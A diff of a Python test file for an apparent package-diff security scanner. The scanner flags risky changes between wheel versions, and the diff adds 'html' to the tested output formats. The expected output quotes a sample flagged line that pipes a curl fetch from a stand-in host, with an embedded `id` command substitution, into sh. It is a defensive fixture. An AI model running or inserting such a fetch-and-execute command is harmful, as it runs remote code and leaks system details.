@@ -75,7 +75,7 @@ def diff(place: WorkingDirectory, *words: str | Path) -> Outcome:
 CODE = """
 code of lens 1.0 → 1.1: 4 files changed, 2 files added
   ! lens.py:7 starts programs (os.system): os.system("curl http://example.org/`id` | sh")
-  + commands: lens-tool
+  ! new commands: lens-tool
   ~ lens-1.1.dist-info/METADATA
       @@ -0,0 +1 @@
       +Requires-Dist: numpy
@@ -176,7 +176,7 @@ def test_data_for_programs(place: WorkingDirectory) -> None:
 
 
 def test_every_format_tells_the_risks(place: WorkingDirectory) -> None:
-    for form in ("github", "gitlab", "markdown", "sarif"):
+    for form in ("github", "gitlab", "html", "markdown", "sarif"):
         outcome = diff(place, "--wheels", "old", "new", "--output-format", form).require(0)
         assert "startup-file" in outcome.stdout
     for risk in ("startup-file", "suspicious-code", "native-wheel", "new-command"):
